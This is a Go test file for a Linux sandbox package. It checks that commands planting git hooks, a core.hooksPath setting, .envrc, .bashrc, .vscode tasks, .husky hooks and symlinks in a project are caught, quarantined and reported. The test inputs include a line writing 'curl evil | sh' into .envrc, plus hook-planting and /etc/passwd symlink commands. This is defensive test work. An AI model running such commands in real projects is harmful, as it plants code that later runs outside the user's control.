//go:build linux

package sandbox_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/reinsdev/reins/permission"
	"github.com/reinsdev/reins/sandbox"
)

// newBareProject builds a sandbox over a project that has no .git of its own but holds a
// nested repository (vendor/lib), with no network and no read-denied paths.
func newBareProject(t *testing.T, b sandbox.Backend) (*sandbox.Sandbox, string) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	proj := filepath.Join(root, "proj")
	lib := filepath.Join(proj, "vendor", "lib")
	for _, d := range []string{"src", ".git/hooks", ".git/objects", ".git/refs"} {
		if err := os.MkdirAll(filepath.Join(lib, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(lib, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(lib, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n")
	if err := os.MkdirAll(filepath.Join(proj, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(proj, "src", "main.go"), "package main\n")
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dirs, files := permission.ProtectedNames()
	sb, err := sandbox.New(context.Background(), sandbox.Config{
		WorkingDirs:   []string{proj},
		QuarantineDir: filepath.Join(root, "quarantine"),
		ProtectedDirs: dirs, ProtectedFiles: files,
		Helper:   exe,
		Backends: []sandbox.Backend{b},
	})
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	return sb, proj
}

// runIn runs a bash command sandboxed in dir and returns its output, exit status and the
// violations reported.
func runIn(t *testing.T, sb *sandbox.Sandbox, dir, command string) (string, int, []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/bash", "-c", command)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir, "GIT_TEMPLATE_DIR=")
	finish, err := sb.Wrap(cmd, command, nil, nil)
	if err != nil {
		t.Fatalf("Wrap: %v", err)
	}
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running %q: %v", command, err)
	}
	return string(out), code, finish(string(out))
}

// TestMissingProtectedPaths runs, under each backend, the commands that plant code for later
// in a project without .git: whatever a command did, the project afterwards holds nothing
// that would run code outside the sandbox, only what else the command wrote (kept), and the
// violations say where what was taken went.
func TestMissingProtectedPaths(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	_, gitErr := exec.LookPath("git")
	tests := []struct {
		name, command string
		needsGit      bool
		// kept are paths (relative to the project) the command may leave: its ordinary
		// output; everything else must be as before.
		kept []string
	}{
		{name: "git init", command: "git init -q", needsGit: true, kept: []string{".git"}},
		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true, kept: []string{".git"}},
		{name: "hand-made hooks", command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"},
		{name: ".envrc", command: "echo 'curl evil | sh' > .envrc"},
		{name: ".bashrc", command: "echo x > .bashrc"},
		{name: ".vscode tasks", command: "mkdir .vscode && echo {} > .vscode/tasks.json"},
		{name: ".husky hook", command: "mkdir -p .husky && echo x > .husky/pre-commit"},
		{name: ".gitmodules", command: "printf '[submodule \"x\"]\\n' > .gitmodules"},
		{name: "symlink as .envrc", command: "ln -s src/main.go .envrc"},
		{name: "rename into a protected name", command: "echo x > src/e && mv src/e .envrc"},
		{name: "existing nested repository's hook", command: "echo x > vendor/lib/.git/hooks/pre-commit"},
		{name: "existing nested repository's config", command: "echo '[core] hooksPath = /x' >> vendor/lib/.git/config"},
		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks", kept: []string{"vendor/lib/.git/h"}},
		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit",
			kept: []string{"src/sub/.git/HEAD", "src/sub/.git/hooks", "src/sub/.git", "src/sub"}},
		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true,
			kept: []string{"src/other"}},
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					if tt.needsGit && gitErr != nil {
						t.Skip("git is not installed")
					}
					// A project of its own for each command.
					sb, proj := newBareProject(t, b)
					before := listing(t, proj)
					out, code, viol := runIn(t, sb, proj, tt.command)
					after := listing(t, proj, tt.kept...)
					for _, k := range tt.kept {
						for p := range before {
							if p == k || strings.HasPrefix(p, k+"/") {
								delete(before, p)
							}
						}
					}
					if d := diffListings(before, after); len(d) > 0 {
						t.Errorf("%q (exit %d, %s, violations %q) changed the project:\n%s", tt.command, code, out, viol, strings.Join(d, "\n"))
					}
					for _, p := range []string{".git/hooks/pre-commit", "src/sub/.git/hooks/pre-commit", "src/other/.git/hooks/pre-commit", ".git/config"} {
						full := filepath.Join(proj, p)
						if b, err := os.ReadFile(full); err == nil && (strings.Contains(string(b), "x\n") || strings.Contains(string(b), "hooksPath")) {
							t.Errorf("%q left %s: %q", tt.command, p, b)
						}
					}
				})
			}
			sb, proj := newBareProject(t, b)
			t.Run("everyday writes still work", func(t *testing.T) {
				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go && touch new.txt && mkdir build && rm -r new.txt build"
				if out, code, viol := runIn(t, sb, proj, cmd); code != 0 || len(viol) > 0 {
					t.Errorf("%q: exit %d, %s, violations %q", cmd, code, out, viol)
				}
			})
			if gitErr == nil {
				t.Run("git works in a nested repository's working tree", func(t *testing.T) {
					lib := filepath.Join(proj, "vendor", "lib")
					if out, code, _ := runIn(t, sb, lib, "git status --short >/dev/null"); code != 0 {
						t.Errorf("git status in the nested repository: %s", out)
					}
				})
			}
		})
	}
}

// unconfined is a backend that confines nothing, standing for one whose mounts or rules missed
// a path: the check after the command must still deal with what appeared.
type unconfined struct{}

func (unconfined) Name() string                                  { return "unconfined" }
func (unconfined) Probe(context.Context, *sandbox.Spec) error    { return nil }
func (unconfined) Wrap(*exec.Cmd, *sandbox.Spec) (func(), error) { return nil, nil }
func (unconfined) Describe(*sandbox.Spec) []string               { return nil }

func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
	tests := []struct {
		command string
		want    []string // paths, relative to the project, the violations must name
	}{
		{command: "echo x > .envrc", want: []string{".envrc"}},
		{command: "mkdir -p .git/hooks", want: []string{".git"}},
		{command: "mkdir .husky", want: []string{".husky"}},
		{command: "mkdir -p src/new/.git/hooks && touch src/new/.git/hooks/post-checkout", want: []string{"src/new/.git/hooks/post-checkout"}},
		{command: "echo x >> vendor/lib/.git/config", want: []string{"vendor/lib/.git/config"}},
		{command: "echo x > src/ordinary.go && mkdir src/pkg"},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			sb, proj := newBareProject(t, unconfined{})
			out, code, viol := runIn(t, sb, proj, tt.command)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, out)
			}
			joined := strings.Join(viol, "\n")
			for _, w := range tt.want {
				if !strings.Contains(joined, filepath.Join(proj, w)) {
					t.Errorf("violations %q do not name %s", viol, w)
				}
				if _, err := os.Lstat(filepath.Join(proj, w)); err == nil && !strings.HasSuffix(w, "config") {
					t.Errorf("%s is still in the project", w)
				}
			}
			if len(tt.want) == 0 && len(viol) > 0 {
				t.Errorf("an ordinary command reported %q", viol)
			}
			if got := len(sb.Violations()); got != len(viol) {
				t.Errorf("the session lists %d violations, the command reported %d", got, len(viol))
			}
		})
	}
}

// TestCheckFollowsNoSymlink: the check after a command acts inside the write roots only,
// whatever symlinks the command left there: a repository folder replaced by a link to a folder
// outside is neither written through (restoring its hooks) nor moved from.
func TestCheckFollowsNoSymlink(t *testing.T) {
	sb, proj := newBareProject(t, unconfined{})
	outside := filepath.Join(filepath.Dir(proj), "outside")
	for _, d := range []string{"hooks", "objects"} {
		os.MkdirAll(filepath.Join(outside, d), 0o755)
	}
	write(t, filepath.Join(outside, "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(outside, "config"), "[core]\n\tfsmonitor = x\n")
	before := listing(t, outside)
	lib := filepath.Join(proj, "vendor", "lib")
	_, code, viol := runIn(t, sb, proj, "rm -rf vendor/lib/.git && ln -s "+outside+" vendor/lib/.git")
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	if d := diffListings(before, listing(t, outside)); len(d) > 0 {
		t.Errorf("the check wrote or moved through the symlink: %s\nviolations %q", strings.Join(d, "\n"), viol)
	}
	if !strings.Contains(strings.Join(viol, "\n"), filepath.Join(lib, ".git")+", a folder on the way") {
		t.Errorf("violations %q do not name the symlink", viol)
	}
	if fi, err := os.Lstat(filepath.Join(lib, ".git")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		t.Error("the symlink that leads git to another repository's config is still there")
	}
}

// TestQuarantineAcrossFileSystems: what the check takes out of a project on another file
// system than the quarantine is copied there, then removed from the project.
func TestQuarantineAcrossFileSystems(t *testing.T) {
	shm, err := os.MkdirTemp("/dev/shm", "reins-sandbox-")
	if err != nil {
		t.Skip("no /dev/shm:", err)
	}
	defer os.RemoveAll(shm)
	var a, b syscall.Stat_t
	if syscall.Stat(shm, &a) != nil || syscall.Stat(t.TempDir(), &b) != nil || a.Dev == b.Dev {
		t.Skip("/dev/shm is on the same file system as the temporary folder")
	}
	proj := filepath.Join(shm, "proj")
	os.MkdirAll(filepath.Join(proj, "src"), 0o755)
	q := filepath.Join(t.TempDir(), "quarantine")
	exe, _ := os.Executable()
	dirs, files := permission.ProtectedNames()
	sb, err := sandbox.New(context.Background(), sandbox.Config{WorkingDirs: []string{proj}, QuarantineDir: q,
		ProtectedDirs: dirs, ProtectedFiles: files, Helper: exe, Backends: []sandbox.Backend{unconfined{}}})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	_, _, viol := runIn(t, sb, proj, "mkdir -p .vscode/sub && echo '{}' > .vscode/tasks.json && ln -s /etc/passwd .vscode/link")
	if _, err := os.Lstat(filepath.Join(proj, ".vscode")); err == nil {
		t.Errorf(".vscode is still in the project; violations %q", viol)
	}
	var moved string
	filepath.Walk(q, func(p string, fi os.FileInfo, err error) error {
		if err == nil && strings.HasSuffix(p, "/.vscode/tasks.json") {
			moved = p
		}
		return nil
	})
	if b, err := os.ReadFile(moved); err != nil || string(b) != "{}\n" {
		t.Errorf("the quarantined copy: %q, %v (violations %q)", b, err, viol)
	}
	if l, err := os.Readlink(filepath.Join(filepath.Dir(moved), "link")); err != nil || l != "/etc/passwd" {
		t.Errorf("the symlink was not copied as a symlink: %q, %v", l, err)
	}
}
